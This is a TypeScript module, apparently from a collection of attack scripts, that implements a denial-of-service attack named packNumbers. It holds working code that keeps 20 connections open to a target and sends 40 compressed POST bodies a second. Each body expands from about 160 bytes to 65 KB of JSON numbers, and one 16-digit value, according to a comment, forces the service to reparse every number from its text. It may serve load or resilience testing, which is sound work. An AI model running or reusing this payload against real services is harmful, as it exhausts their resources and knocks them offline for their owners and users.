import type { Attack } from './attack.ts';
import { withSockets } from './open-sockets.ts';
import { packedPost } from './requests.ts';

const connections = 20;
const requestsPerSecond = 40;

const begin = '{"name":"a","categoryId":"x","a":[1234567890123456';
// One number of 16 digits makes the service parse all of them again, each by its text.
const numbers = `${begin}${',1'.repeat((65_000 - begin.length) >> 1)}]}`;

/** Sends 40 bodies a second, each 160 bytes compressed and 65 KB of numbers decompressed, about 16 KB/s in all. */
export const packNumbers: Attack = (target) =>
  withSockets(target, async ({ open, wait, isOver }) => {
    const sockets = await Promise.all(Array.from({ length: connections }, open));
    const post = packedPost(target.apiKey, numbers);
    const start = performance.now();
    for (let sent = 0; !isOver(); sent++) {
      await wait(start + (sent * 1_000) / requestsPerSecond - performance.now());
      sockets[sent % connections]?.write(post);
    }
  });
